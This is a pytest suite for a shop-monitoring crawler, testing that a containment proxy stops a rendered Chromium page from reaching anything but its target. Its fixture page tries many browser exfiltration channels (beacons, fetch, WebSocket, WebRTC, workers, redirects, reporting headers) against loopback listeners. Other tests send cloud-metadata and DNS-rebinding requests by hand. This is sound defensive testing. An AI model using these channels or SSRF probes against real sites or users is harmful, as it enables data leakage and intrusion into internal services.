"""Chromium stays on the target: hostile pages on 127.0.0.1 try every way out, and a listener on
other loopback ports (TCP and UDP, on 127.0.0.1 and 127.0.0.2) must hear nothing, whether the
page is rendered by the storefront spider (scrapy-playwright) or by the evidence browser.

A control test renders the same page in a Chromium without containment and checks that the
listener does hear it, so the zero-hit tests cannot pass because the page failed to try.
"""

from __future__ import annotations

import asyncio
import json
import socket
import sqlite3
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from monitor.containment import OriginProxy, contained_context_kwargs, contained_launch_options
from monitor.evidence.browser import Browser, CaptureError, find_chromium, launch_options

needs_chromium = pytest.mark.skipif(
    find_chromium() is None, reason="Debian's chromium is not installed"
)

FLAGGED = "高仿名表 一比一 刷单返现"  # the lexicon flags it: evidence is captured for it


def listing(title: str, body: str = "", head: str = "") -> bytes:
    return (
        f'<!doctype html><html><head><meta charset="utf-8">{head}<title>{title}</title></head>'
        f'<body><h1>{title}</h1><p class="price">价格：99元</p>{body}</body></html>'
    ).encode()


class Elsewhere:
    """Another origin on loopback that records every TCP connection and UDP datagram."""

    def __init__(self, host: str) -> None:
        hits = self.hits = []

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def do_GET(self):  # a flagged page: a leak would turn it into a lead
                body = listing("仿真枪 外站页面")
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET

        class Recording(ThreadingHTTPServer):
            daemon_threads = True

            def get_request(self):
                conn, addr = super().get_request()
                hits.append(("tcp", host))
                return conn, addr

        self.tcp = Recording((host, 0), Handler)
        self.port = self.tcp.server_address[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            self.udp.bind((host, self.port))
        except OSError:  # that UDP port is taken: any other will do
            self.udp.bind((host, 0))
        self.udp_port = self.udp.getsockname()[1]
        self.udp.settimeout(0.2)
        self.origin = f"http://{host}:{self.port}"
        self.running = True
        threading.Thread(target=self.tcp.serve_forever, daemon=True).start()
        threading.Thread(target=self._listen_udp, daemon=True).start()

    def _listen_udp(self) -> None:
        while self.running:
            try:
                self.udp.recvfrom(65536)
            except TimeoutError:
                continue
            except OSError:
                return
            self.hits.append(("udp", self.origin))

    def stop(self) -> None:
        self.running = False
        self.tcp.shutdown()
        self.tcp.server_close()
        self.udp.close()


def hostile_page(a: Elsewhere, b: Elsewhere) -> bytes:
    """A listing that tries every way off its origin it can without a click."""
    x, y = a.origin, b.origin
    ws_x = x.replace("http", "ws")
    head = f"""
    <link rel="preconnect" href="{x}"><link rel="dns-prefetch" href="{y}">
    <link rel="prefetch" href="{y}/prefetch"><link rel="preload" as="image" href="{x}/preload">
    <link rel="stylesheet" href="{y}/style.css"><link rel="icon" href="{x}/favicon.ico">
    <style>@import url({y}/import.css);
      @font-face {{ font-family: f; src: url({x}/font.woff2); }}
      body {{ font-family: f; background: url({y}/bg.png); }}</style>
    <script src="{x}/script.js"></script><script src="/redirect?to={x}/script-hop.js"></script>
    """
    body = f"""
    <img src="{x}/img.png"><img src="/redirect?to={y}/img-hop.png"><img src="/blocked-by-csp.png">
    <svg><image href="{x}/svg-image.png" width="1" height="1"/></svg>
    <input type="image" src="{y}/input-image.png"><embed src="{x}/embed">
    <iframe src="{x}/frame"></iframe><iframe src="/redirect?to={y}/frame-hop"></iframe>
    <video src="{x}/video.mp4"></video><object data="{y}/object"></object>
    <iframe name="sink"></iframe>
    <form id="f" action="{x}/form" method="post" target="sink"><input name="q" value="1"></form>
    <script>
    const report = (what) => fetch('/ran?' + what).catch(() => {{}});
    const tryit = (name, f) => {{ try {{ f(); }} catch (e) {{ report(name + '-threw'); }} }};
    tryit('fetch', () => fetch('{x}/fetch', {{mode: 'no-cors'}}).catch(() => {{}}));
    tryit('fetch-hop', () => fetch('/redirect?to={y}/fetch-hop').catch(() => {{}}));
    tryit('xhr', () => {{ const r = new XMLHttpRequest(); r.open('GET', '{y}/xhr'); r.send(); }});
    tryit('beacon', () => navigator.sendBeacon('{x}/beacon', 'leak'));
    tryit('keepalive', () => fetch('{y}/keepalive', {{method: 'POST', body: 'x', keepalive: true, mode: 'no-cors'}}).catch(() => {{}}));
    tryit('eventsource', () => new EventSource('{x}/events'));
    tryit('ws', () => new WebSocket('{ws_x}/ws'));
    tryit('ws-same-origin', () => new WebSocket('ws://' + location.host + '/ws'));
    tryit('worker', () => new Worker('/worker.js'));
    tryit('sw', () => navigator.serviceWorker && navigator.serviceWorker.register('/sw.js').catch(() => {{}}));
    tryit('form', () => document.getElementById('f').submit());
    tryit('popup', () => window.open('{y}/popup'));
    tryit('popup-noopener', () => window.open('/redirect?to={x}/popup-hop', '_blank', 'noopener'));
    tryit('image', () => {{ new Image().src = '{y}/new-image'; }});
    tryit('localhost', () => fetch('http://localhost:{a.port}/by-name', {{mode: 'no-cors'}}).catch(() => {{}}));
    tryit('ping', () => {{ const l = document.createElement('a'); l.href = '/ran?pinged';
      l.ping = '{x}/ping'; l.target = 'sink'; document.body.appendChild(l); l.click(); }});
    tryit('shared-worker', () => new SharedWorker('/worker.js'));
    tryit('download', () => {{ const l = document.createElement('a'); l.href = '{x}/file.exe';
      l.download = 'file.exe'; l.target = 'sink'; document.body.appendChild(l); l.click(); }});
    tryit('download-same-origin', () => {{ const l = document.createElement('a');
      l.href = '/file.exe'; l.download = 'file.exe'; document.body.appendChild(l); l.click(); }});
    tryit('webtransport', () => new WebTransport('https://127.0.0.1:{a.udp_port}/wt'));
    tryit('webrtc', () => {{
      const pc = new RTCPeerConnection({{iceServers: [
        {{urls: 'stun:127.0.0.1:{a.udp_port}'}}, {{urls: 'stun:127.0.0.2:{b.udp_port}'}},
        {{urls: 'turn:127.0.0.1:{a.udp_port}?transport=udp', username: 'u', credential: 'p'}}]}});
      pc.createDataChannel('leak');
      pc.createOffer().then(o => pc.setLocalDescription(o));
      report('webrtc-started');
    }});
    report('page-ran');
    </script>"""
    return listing(FLAGGED, body, head)


WORKER_JS = """
fetch('{x}/worker-fetch').catch(() => {{}});
try {{ new WebSocket('{ws}/worker-ws'); }} catch (e) {{}}
"""


class Target:
    """The hostile shop on 127.0.0.1: a storefront index linking to hostile listings."""

    def __init__(self, a: Elsewhere, b: Elsewhere) -> None:
        self.ran: list[str] = []
        self.paths: list[str] = []
        ran, paths = self.ran, self.paths
        pages = {
            "/": (
                b'<html><head><meta charset="utf-8"></head><body>'
                b'<a class="item" href="/hostile.html">1</a>'
                b'<a class="item" href="/moved.html">2</a>'
                b'<a class="item" href="/script-moves.html">3</a>'
                b'<a class="item" href="/refresh.html">4</a></body></html>'
            ),
            "/hostile.html": hostile_page(a, b),
            "/script-moves.html": listing(
                FLAGGED + " 跳转",
                f"<script>setTimeout(() => location = '{a.origin}/moved', 300)</script>",
            ),
            "/refresh.html": listing(
                FLAGGED + " 刷新",
                head=f'<meta http-equiv="refresh" content="0;url={b.origin}/refresh">',
            ),
            "/worker.js": WORKER_JS.format(x=a.origin, ws=a.origin.replace("http", "ws")).encode(),
            "/sw.js": f"fetch('{a.origin}/sw-fetch');".encode(),
        }

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def do_GET(self):
                path, _, query = self.path.partition("?")
                paths.append(self.path)
                if path == "/ran":
                    ran.append(query)
                    return self.answer(204, b"")
                if path == "/redirect":
                    return self.answer(302, b"", {"Location": query.partition("=")[2]})
                if path == "/moved.html":  # the listing itself moved to another origin
                    return self.answer(302, b"", {"Location": f"{a.origin}/listing.html"})
                if path in pages:
                    ctype = (
                        "text/javascript" if path.endswith(".js") else "text/html; charset=utf-8"
                    )
                    headers = {"Content-Type": ctype}
                    if path == "/hostile.html":  # ways out the server itself names
                        headers.update(
                            {
                                "Link": f"<{a.origin}/>; rel=preconnect, "
                                f"<{b.origin}/h.js>; rel=preload; as=script",
                                "Content-Security-Policy-Report-Only": (
                                    f"img-src 'none'; report-uri {a.origin}/csp-report"
                                ),
                                "Reporting-Endpoints": f'main="{b.origin}/reports"',
                                "NEL": '{"report_to": "main", "max_age": 86400}',
                            }
                        )
                    return self.answer(200, pages[path], headers)
                return self.answer(404, b"not found")

            do_POST = do_GET

            def answer(self, status, body, headers=None):
                self.send_response(status)
                for k, v in (headers or {}).items():
                    self.send_header(k, v)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                try:
                    self.wfile.write(body)
                except OSError:  # the browser went away first
                    pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def world():
    a, b = Elsewhere("127.0.0.1"), Elsewhere("127.0.0.2")
    target = Target(a, b)
    yield target, a, b
    target.stop()
    a.stop()
    b.stop()


def hits(a: Elsewhere, b: Elsewhere) -> list:
    return a.hits + b.hits


async def render_uncontained(url: str, seconds: float, proxy: OriginProxy | None = None) -> None:
    """Render ``url`` in a bare context: no route handler, no init script. With ``proxy``, the
    browser is launched with the containment flags alone (the network layer on its own)."""
    from playwright.async_api import async_playwright

    async with async_playwright() as pw:
        options = launch_options(find_chromium())
        if proxy is not None:
            options = contained_launch_options(options, proxy.url)
        else:  # no proxy, and no DNS either: the control may only reach loopback, as the page tries
            options["args"] += ["--host-resolver-rules=MAP * ~NOTFOUND , EXCLUDE 127.0.0.1"]
        browser = await pw.chromium.launch(**options)
        page = await browser.new_page()
        await page.goto(url)
        await page.wait_for_timeout(seconds * 1000)
        await browser.close()


@needs_chromium
def test_control_the_hostile_page_does_get_out_of_an_uncontained_chromium(world):
    target, a, b = world
    asyncio.run(render_uncontained(target.url + "hostile.html", 3))
    kinds = {kind for kind, _ in hits(a, b)}
    assert kinds == {"tcp", "udp"}, "the fixture must be able to reach the listener"
    assert "page-ran" in target.ran and "webrtc-started" in target.ran


@needs_chromium
def test_network_layer_alone_holds_without_route_handlers_or_init_scripts(world):
    """The flags and the proxy on their own, with WebRTC left in the page: zero hits."""
    target, a, b = world
    origin = ("http", "127.0.0.1", int(target.url.rsplit(":", 1)[1].strip("/")))
    with OriginProxy({origin: True}) as proxy:
        asyncio.run(render_uncontained(target.url + "hostile.html", 4, proxy))
        time.sleep(1)
        refusals = dict(proxy.refusals)
    assert hits(a, b) == []
    assert "page-ran" in target.ran and "webrtc-started" in target.ran  # WebRTC did try
    assert refusals.get("off_target", 0) >= 5 and refusals.get("connect_off_target", 0) >= 1
    assert "/ws" not in target.paths


@needs_chromium
def test_evidence_browser_renders_hostile_pages_without_a_single_hit_elsewhere(world):
    target, a, b = world

    async def capture_all():
        browser = Browser(find_chromium(), timeout=20, settle=3)
        try:
            cap = await browser.capture(target.url + "hostile.html")
            await asyncio.sleep(2)  # late timers, ICE gathering, popups
            outcomes = {}
            for page in ("moved.html", "script-moves.html", "refresh.html"):
                try:
                    outcomes[page] = (await browser.capture(target.url + page)).dom
                except CaptureError as exc:
                    outcomes[page] = str(exc)
            popups_left = len(browser.pages())  # window.open()s, closed
            assert popups_left == 0
            return cap, outcomes, dict(browser.refusals)
        finally:
            await browser.close()

    cap, outcomes, refusals = asyncio.run(capture_all())
    time.sleep(1)
    assert hits(a, b) == []
    assert FLAGGED in cap.dom and cap.png.startswith(b"\x89PNG")
    assert "page-ran" in target.ran  # the page's script did run and try
    # on-target hops were followed, the off-target hop after each one was refused
    assert any(p.startswith("/redirect?to=") for p in target.paths)
    assert refusals.get("off_target", 0) >= 1
    assert "/ws" not in target.paths  # a WebSocket to the page's own (http) origin is refused too
    # a listing that moves elsewhere is no evidence of it: captured before it moved (its own
    # page), or refused; never the other origin's page or the proxy's refusal
    assert outcomes["moved.html"].startswith("left the target"), outcomes["moved.html"][:300]
    assert outcomes["refresh.html"].startswith("left the target"), outcomes["refresh.html"][:300]
    moved_by_script = outcomes["script-moves.html"]
    assert moved_by_script.startswith(("left the target", "page navigated while")) or (
        FLAGGED + " 跳转" in moved_by_script and "外站" not in moved_by_script
    ), moved_by_script[:300]


@needs_chromium
@pytest.mark.parametrize(
    "spec",
    [
        {"kind": "storefront", "platform": "p"},
        {"kind": "site", "render": True},  # the site spider rendering a script-built shop
    ],
    ids=["storefront", "site-rendered"],
)
def test_rendered_crawl_of_hostile_shop_reaches_nothing_else_and_keeps_only_target_pages(
    world, make_config, cli, tmp_path, spec
):
    target, a, b = world
    config = make_config(
        [{"name": "恶意店", "url": target.url, **spec}],
        platforms={"p": {"listing_links": "a.item", "title": "h1", "wait_for": "body"}},
        browser={"render_timeout": 15},
    )
    result = cli("crawl", "--target", "恶意店", config=config, timeout=240)
    time.sleep(1)
    assert hits(a, b) == [], result.stdout + result.stderr
    # the page ran in both Chromiums: the spider's and the evidence capture's
    assert target.ran.count("page-ran") >= 2, target.ran
    con = sqlite3.connect(tmp_path / "monitor.db")
    urls = [u for (u,) in con.execute("SELECT url FROM listings")]
    assert target.url + "hostile.html" in urls
    assert all(u.startswith(target.url) for u in urls), urls
    assert not any(str(a.port) in u or str(b.port) in u for u in urls)
    manifests = [
        json.loads(p.read_bytes()) for p in (tmp_path / "evidence" / "manifests").glob("*.json")
    ]
    assert manifests
    for m in manifests:
        assert m["url"].startswith(target.url) and m["final_url"].startswith(target.url), m
        for art in m["artifacts"]:
            if art["kind"] == "rendered_dom":
                dom = (tmp_path / "evidence" / art["path"]).read_text(encoding="utf-8")
                assert "外站页面" not in dom and "refused" not in dom
    log = "".join(p.read_text(encoding="utf-8") for p in (tmp_path / "logs").glob("*.log"))
    assert "Containment proxy refused" in log
    assert "'containment/refused':" in log  # in the crawl's statistics
    assert f"left the target: {target.url}moved.html -> {a.origin}/listing.html" in log


def test_proxy_refuses_other_ports_metadata_addresses_websockets_and_rebinding():
    """The proxy's rules without a browser: what Chromium would send, sent by hand."""
    a = Elsewhere("127.0.0.1")
    target = Elsewhere("127.0.0.1")  # stands in for the shop: an admitted origin
    proxy = OriginProxy({("http", "127.0.0.1", target.port): True}).start()

    def send(raw: bytes) -> bytes:
        with socket.create_connection(("127.0.0.1", proxy.port), timeout=10) as s:
            s.sendall(raw)
            out = b""
            while chunk := s.recv(65536):
                out += chunk
            return out

    try:
        ok = send(f"GET {target.origin}/x HTTP/1.1\r\nHost: x\r\n\r\n".encode())
        assert ok.startswith(b"HTTP/1.0 200") or ok.startswith(b"HTTP/1.1 200")
        assert len(target.hits) == 1
        for raw in (
            f"GET {a.origin}/x HTTP/1.1\r\n\r\n",  # same host, other port
            "GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\n\r\n",
            "GET http://10.0.0.1/ HTTP/1.1\r\n\r\n",
            f"CONNECT 127.0.0.1:{a.port} HTTP/1.1\r\n\r\n",
            f"CONNECT 127.0.0.1:{target.port} HTTP/1.1\r\n\r\n",  # ws:// to an http origin
            f"GET {target.origin}/ws HTTP/1.1\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n",
            f"GET {target.origin.replace('127.0.0.1', 'localhost')}/ HTTP/1.1\r\n\r\n",
        ):
            assert send(raw.encode()).startswith(b"HTTP/1.1 403"), raw
        assert a.hits == [] and len(target.hits) == 1
        # an https origin is tunnelled (CONNECT), to its own port only
        proxy.admit(("https", "127.0.0.1", target.port), True)
        with socket.create_connection(("127.0.0.1", proxy.port), timeout=10) as s:
            s.sendall(f"CONNECT 127.0.0.1:{target.port} HTTP/1.1\r\n\r\n".encode())
            assert s.recv(100).startswith(b"HTTP/1.1 200")
            s.sendall(b"GET /in-tunnel HTTP/1.0\r\n\r\n")
            assert s.recv(100).startswith(b"HTTP/1.0 200")
        assert len(target.hits) == 2
        assert send(f"CONNECT 127.0.0.1:{a.port} HTTP/1.1\r\n\r\n".encode()).startswith(
            b"HTTP/1.1 403"
        )
        # a public name admitted as public may not resolve to a private address (rebinding)
        public = OriginProxy({("http", "localhost", target.port): False}).start()
        try:
            with socket.create_connection(("127.0.0.1", public.port), timeout=10) as s:
                s.sendall(f"GET http://localhost:{target.port}/ HTTP/1.1\r\n\r\n".encode())
                assert s.recv(100).startswith(b"HTTP/1.1 403")
            assert public.refusals["private_address"] == 1 and len(target.hits) == 2
        finally:
            public.stop()
    finally:
        proxy.stop()
        a.stop()
        target.stop()


def test_proxy_treats_shared_address_space_and_multicast_as_private():
    """Alibaba Cloud's metadata service answers on 100.100.100.200 (shared address space,
    100.64.0.0/10, which Python's ``is_private`` calls public), CGNAT intranets on 100.64/10:
    a target admitted as public that resolves there is refused, as the crawler's resolver
    refuses it (one predicate: scope.is_private_address), without a connection attempt."""
    addresses = ("100.100.100.200", "100.64.0.1", "224.0.0.1")
    proxy = OriginProxy({("http", a, 80): False for a in addresses}).start()
    try:
        for a in addresses:
            with socket.create_connection(("127.0.0.1", proxy.port), timeout=15) as s:
                s.sendall(f"GET http://{a}/latest/meta-data/ HTTP/1.1\r\n\r\n".encode())
                assert s.recv(100).startswith(b"HTTP/1.1 403"), a
        assert proxy.refusals["private_address"] == len(addresses)
    finally:
        proxy.stop()


def test_launch_and_context_options_cannot_be_turned_back_on():
    """Settings that would undo containment are replaced: another proxy, a bypass list, PAC,
    host rules, WebRTC policy; per-context proxies, persistent profiles and downloads."""
    options = contained_launch_options(
        {
            "proxy": {"server": "http://127.0.0.2:1"},
            "args": [
                "--proxy-server=http://127.0.0.2:1",
                "--proxy-bypass-list=*",
                "--proxy-pac-url=http://127.0.0.2/p.pac",
                "--host-resolver-rules=MAP * 127.0.0.2",
                "--force-webrtc-ip-handling-policy=default",
                "--mute-audio",
            ],
        },
        "http://127.0.0.1:5555",
    )
    assert "proxy" not in options
    args = options["args"]
    assert [a for a in args if a.startswith("--proxy-server")] == [
        "--proxy-server=http://127.0.0.1:5555"
    ]
    assert "--proxy-bypass-list=<-loopback>" in args and "--mute-audio" in args
    assert not any("127.0.0.2" in a or a.endswith("=*") or "default" in a for a in args)
    kwargs = contained_context_kwargs(
        {"proxy": {"server": "http://127.0.0.2:1"}, "user_data_dir": "/tmp/x", "locale": "zh-CN"}
    )
    assert kwargs == {"locale": "zh-CN", "accept_downloads": False, "service_workers": "block"}
    # a context's only proxy is its lane, loopback included whatever the environment says
    laned = contained_context_kwargs(
        {"proxy": {"server": "http://127.0.0.2:1"}}, "http://127.0.0.1:7"
    )
    assert laned["proxy"] == {"server": "http://127.0.0.1:7", "bypass": "<-loopback>"}
